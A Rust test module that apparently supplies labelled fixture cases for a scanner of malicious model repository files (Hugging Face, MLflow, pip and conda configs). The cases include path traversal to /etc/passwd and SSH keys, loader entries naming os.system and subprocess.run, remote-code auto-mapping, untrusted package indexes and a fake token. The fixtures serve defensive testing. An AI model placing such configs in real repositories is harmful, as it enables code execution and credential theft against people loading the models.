//! Model repositories: what makes a hub client or MLflow run, fetch or open something.

use super::Label::{Executes, Hides};
use super::{Case, case};

pub(super) fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let mut add = |label, name: &str, file: &str, text: &str| cases.push(case(label, format!("repo-{name}"), file, text));
    add(Hides, "auto-map", "config.json", r#"{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}}"#);
    add(Hides, "auto-map-other-repository", "config.json", r#"{"auto_map": {"AutoModel": "someone/else--modeling_x.X"}}"#);
    add(Hides, "trust-remote-code", "config.json", r#"{"trust_remote_code": true}"#);
    add(Executes, "index-traversal", "model.safetensors.index.json", r#"{"metadata": {}, "weight_map": {"w": "../../../etc/passwd"}}"#);
    add(Hides, "sentence-transformers-module", "modules.json", r#"[{"idx": 0, "name": "0", "path": "", "type": "evil_module.Evil"}]"#);
    add(Executes, "sentence-transformers-os", "modules.json", r#"[{"idx": 0, "name": "0", "path": "", "type": "os.system"}]"#);
    add(Hides, "diffusers-library", "model_index.json", r#"{"_class_name": "P", "_diffusers_version": "0.30", "unet": ["evil_unet", "UNet"]}"#);
    add(Hides, "peft-library", "adapter_config.json", r#"{"peft_type": "LORA", "auto_mapping": {"parent_library": "evil_library", "base_model_class": "X"}}"#);
    add(Executes, "tokenizer-file-outside", "tokenizer_config.json", r#"{"tokenizer_file": "../../../../root/.ssh/id_ed25519"}"#);
    add(Executes, "hydra-target", "config.json", r#"{"model": {"_target_": "subprocess.run", "args": "id"}}"#);
    let mlmodel = |inside: &str| format!("artifact_path: model\nflavors:\n  python_function:\n{inside}mlflow_version: 2.9\n");
    add(Executes, "mlflow-loader-os", "MLmodel", &mlmodel("    loader_module: os.system\n"));
    add(Hides, "mlflow-loader", "MLmodel", &mlmodel("    loader_module: evil_loader\n"));
    add(Hides, "mlflow-code", "MLmodel", &mlmodel("    code: code\n    loader_module: mlflow.sklearn\n"));
    add(Executes, "mlflow-data-outside", "MLmodel", &mlmodel("    data: ../../../tmp/model.pkl\n    loader_module: mlflow.sklearn\n"));
    add(Hides, "requirements-extra-index", "requirements.txt", "--extra-index-url http://10.0.0.1/simple\ntorch==2.9\n");
    add(Hides, "requirements-trusted-host", "requirements.txt", "torch\n--trusted-host 10.0.0.1\n");
    add(Hides, "requirements-address", "requirements.txt", "evil @ https://example.com/evil.whl\n");
    add(Hides, "conda-address", "conda.yaml", "dependencies:\n- pip:\n  - git+https://github.com/someone/else\n");
    let secret = ["hf_", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7"].concat();
    add(Hides, "secret", ".env", &format!("HF_TOKEN={secret}\n"));
    cases
}
